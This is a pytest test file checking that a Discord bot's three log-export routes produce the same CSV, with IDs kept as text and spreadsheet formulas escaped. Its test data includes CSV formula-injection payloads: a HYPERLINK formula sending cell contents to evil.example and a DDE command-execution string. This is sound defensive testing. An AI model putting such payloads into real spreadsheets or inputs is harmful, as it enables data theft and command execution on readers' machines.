"""Every export route writes the same file: `/logs export`, `tlm-bot logs export` and the
dashboard's CSV (and its JSON) over the same rows, with ids as text, a byte-order mark and every
cell a spreadsheet would run as a formula escaped (issues 21 and 28: the dashboard once had a
CSV writer of its own that wrote ids as numbers, had no BOM, and whose escape no test saw)."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import time
from pathlib import Path

import aiohttp
import pytest
from aiohttp import web

from bot.cli import main as cli_main
from bot.dashboard.access import Sessions
from bot.dashboard.app import COOKIE_PREFIX, DashboardContext, make_app
from bot.dashboard.signing import Grant, Signer
from core.storage.dashboard_data import DashboardData
from core.storage.database import Database
from core.storage.guild_settings import SettingsStore
from core.storage.querylog import CSV_COLUMNS, QueryFilter, QueryLog, QueryRecord, unescape_csv_cell
from tests.bot_harness import running_bot

#: 19-digit snowflakes: a spreadsheet keeps 15 significant digits of a number.
GUILD, USER, CHANNEL = 1234567890123456789, 987654321098765432, 1111111111111111111
#: Cells a spreadsheet would run: the first visible character is = + - or @.
DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
             "-2+3", "@SUM(A1:A9)"]
ID_COLUMNS = ("guild_id", "channel_id", "user_id")


def _records(guild: int, user: int, channel: int) -> list[QueryRecord]:
    return [QueryRecord(guild_id=guild, channel_id=channel, user_id=user, command="tokens",
                        options={"text": text}, input_text=text, status="ok",
                        output_summary=text, user_name=text, free_text_options=frozenset({"text"}))
            for text in DANGEROUS]


def check_csv(data: bytes, *, guild: int = GUILD, user: int = USER,
              channel: int = CHANNEL) -> list[dict[str, str]]:
    """The export's promises, checked on the bytes a route returned."""
    assert data.startswith(b"\xef\xbb\xbf"), "no byte-order mark"
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows and tuple(rows[0]) == CSV_COLUMNS
    ids = {"guild_id": guild, "user_id": user, "channel_id": channel}
    for cells in rows:
        for name, value in ids.items():  # text a spreadsheet shows with all of its digits
            assert cells[name] == f'="{value}"'
        for name, value in cells.items():
            if name not in ID_COLUMNS:
                assert not value.lstrip().startswith(("=", "+", "-", "@")), (name, value)
    tokens = [r for r in rows if r["command"] == "tokens"]
    assert sorted(unescape_csv_cell(r["input_text"]) for r in tokens) == sorted(DANGEROUS)
    assert sorted(unescape_csv_cell(r["user_name"]) for r in tokens) == sorted(DANGEROUS)
    assert sorted(unescape_csv_cell(r["output_summary"]) for r in tokens) == sorted(DANGEROUS)
    return rows


@pytest.fixture
async def logged(tmp_path: Path):
    """A database holding the dangerous rows (log_inputs = "full": the text is kept)."""
    async with await Database.open(tmp_path / "tlm.db") as db, QueryLog(db) as querylog:
        for rec in _records(GUILD, USER, CHANNEL):
            assert await querylog.record(rec)
        yield db, querylog


async def _instructor(guild_id: int, user_id: int) -> bool:
    return True  # no Discord here: the session's reader is an instructor


async def _dashboard_get(db: Database, path: str) -> bytes:
    """GET a dashboard page with a valid session of GUILD, over real HTTP."""
    data = await DashboardData.open(db.path)
    signer = Signer(b"export-test-key-" * 2)
    context = DashboardContext(sentiment_report=lambda: "", default_cooldown="none",
                               log_inputs="full", public_path="", secure_cookies=False,
                               link_seconds=3600, sessions=Sessions(db), authorize=_instructor)
    runner = web.AppRunner(make_app(data, signer, SettingsStore(db), context), access_log=None)
    await runner.setup()
    try:
        site = web.TCPSite(runner, "127.0.0.1", 0)
        await site.start()
        port = runner.addresses[0][1]
        cookie = signer.issue("session", Grant(GUILD, USER, int(time.time()) + 3600))
        async with aiohttp.ClientSession(
                cookie_jar=aiohttp.DummyCookieJar(),
                headers={"Cookie": f"{COOKIE_PREFIX}{GUILD}={cookie}"}) as session:
            async with session.get(f"http://127.0.0.1:{port}/g/{GUILD}/{path}") as response:
                assert response.status == 200, await response.text()
                return await response.read()
    finally:
        await runner.cleanup()
        await data.aclose()


async def test_every_export_route_writes_the_same_escaped_file(logged, tmp_path):
    db, querylog = logged
    # /logs export's call.
    out = io.BytesIO()
    result = await querylog.export_csv(QueryFilter(guild_id=GUILD, limit=None), out)
    assert result.complete and result.rows == len(DANGEROUS)
    discord_csv = out.getvalue()
    # The dashboard's download.
    dashboard_csv = await _dashboard_get(db, "queries.csv")
    # tlm-bot logs export.
    config = tmp_path / "export.toml"
    config.write_text(f'[database]\npath = "{db.path}"\n')
    cli_csv = tmp_path / "cli.csv"
    assert await asyncio.to_thread(cli_main, [
        "--config", str(config), "logs", "export", "--guild", str(GUILD),
        "--out", str(cli_csv)]) == 0

    for data in (discord_csv, dashboard_csv, cli_csv.read_bytes()):
        check_csv(data)
    # One writer: the same rows make the same bytes, whichever route asked.
    assert dashboard_csv == discord_csv == cli_csv.read_bytes()


async def test_the_dashboards_json_keeps_ids_whole(logged):
    db, _ = logged
    rows = json.loads(await _dashboard_get(db, "queries.json"))
    assert len(rows) == len(DANGEROUS)
    for row in rows:  # strings, as Discord's API sends them: a JS number keeps 15-16 digits
        assert (row["guild_id"], row["user_id"], row["channel_id"]) == (
            str(GUILD), str(USER), str(CHANNEL))
        assert row["options"] == {"text": row["input_text"]}
    assert sorted(r["input_text"] for r in rows) == sorted(DANGEROUS)


async def test_the_logs_export_command_escapes_too(tiny_config, tmp_path, caplog):
    """The route as an instructor takes it: /logs export through the bot and Discord."""
    from tests.bot_harness import bot_config

    async with running_bot(bot_config(tiny_config, tmp_path), caplog) as h:
        emu = h.emu
        for rec in _records(emu.guild_id, emu.student_id, emu.channel_id):
            assert await h.services.querylog.record(rec)
        export = await h.run("logs", {}, subcommand="export", user_id=emu.moderator_id)
    [(_, data)] = export.files
    check_csv(data, guild=emu.guild_id, user=emu.student_id, channel=emu.channel_id)
